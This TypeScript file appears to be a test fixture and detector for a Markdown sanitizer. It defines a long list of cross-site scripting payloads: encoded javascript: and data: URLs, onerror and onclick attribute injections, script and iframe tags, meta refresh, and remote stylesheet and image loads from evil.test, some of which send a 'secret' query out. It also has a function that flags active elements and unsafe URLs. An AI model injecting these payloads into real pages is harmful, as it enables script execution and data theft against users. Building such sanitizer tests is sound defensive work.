const schemes = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'java&#115;cript:alert(1)',
  'java&#x73;cript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#0;script:alert(1)',
  'java&#1;script:alert(1)',
  'java&#xad;script:alert(1)',
  'java&#x200b;script:alert(1)',
  '&#xfeff;javascript:alert(1)',
  '&nbsp;javascript:alert(1)',
  '\\javascript:alert(1)',
  'javascript\\:alert(1)',
  'java\u0000script:alert(1)',
  'java\u000bscript:alert(1)',
  'java\u00a0script:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://example.com/1',
  'filesystem:https://example.com/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
  'livescript:alert(1)',
  'about:blank',
  'intent:#Intent;S.x=1;end',
]

const wrappers: readonly ((url: string) => string)[] = [
  (url) => `[a](${url})`,
  (url) => `[a](<${url}>)`,
  (url) => `![a](${url})`,
  (url) => `[![a](${url})](${url})`,
  (url) => `<${url}>`,
  (url) => `[a][b]\n\n[b]: ${url}`,
  (url) => `[a]: <${url}> "t"\n\n![a]`,
]

const others = [
  '[a](https://x "\\" onmouseover=alert(1) x=\\"")',
  "[a](https://x'onmouseover=alert(1))",
  '![a" onerror="alert(1)](/x)',
  '![a](/x"onerror="alert\\(1\\))',
  '```"onmouseover="alert(1)\na\n```',
  '```<img src=x onerror=alert(1)>\na\n```',
  '```js class="x" style="position:fixed"\na\n```',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>\n\na\n\n</details>',
  '<details><summary onclick=alert(1)>a</summary></details>',
  '<sub onclick=alert(1)>a</sub>',
  '<sub><img src=x onerror=alert(1)></sub>',
  '<kbd style="position:fixed">a</kbd>',
  '<a href="javascript:alert(1)">a</a>',
  '<form action="javascript:alert(1)"><button>a</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/a.css"</style>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<x onclick=alert(1)>',
  '<!-- --><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |',
  '[^<script>alert(1)</script>]: a',
  'a[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: b',
  '$\\href{javascript:alert(1)}{x}$',
  '[constructor][__proto__]\n\n[__proto__]: javascript:alert(1)',
  '![a](//evil.test/?q=secret)',
  '![a](\\\\evil.test/?q=secret)',
]

/** Markdown that tries to make something run, or a page tell what it should not. */
export const tricks: readonly string[] = [...schemes.flatMap((url) => wrappers.map((wrap) => wrap(url))), ...others]

const activeElements =
  'script, style, link, meta, base, iframe, frame, object, embed, form, button, svg, math, video, audio, template, portal'
const safeUrl = /^(?:https?:|mailto:|tel:|\/|\?|#|\.|[^:]*$|[^:]*[/?#])/i

/** What in a document could run, or reach out unasked. */
export function unsafeParts(root: Element): string[] {
  const found = [...root.querySelectorAll(activeElements)].map(({ outerHTML }) => outerHTML)
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isUrl = ['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'xlink:href'].includes(name)
      const isPicture = name === 'src' && /^data:image\/(?:png|jpeg|gif|webp|avif|bmp);/i.test(value)
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(`${name}=${value}`)
      else if (isUrl && !isPicture && !safeUrl.test(value)) found.push(`${name}=${value}`)
    }
    if (element instanceof HTMLImageElement && isElsewhere(element.src)) found.push(element.src)
  }
  return found
}

function isElsewhere(url: string): boolean {
  return !url.startsWith('data:') && new URL(url).origin !== location.origin
}
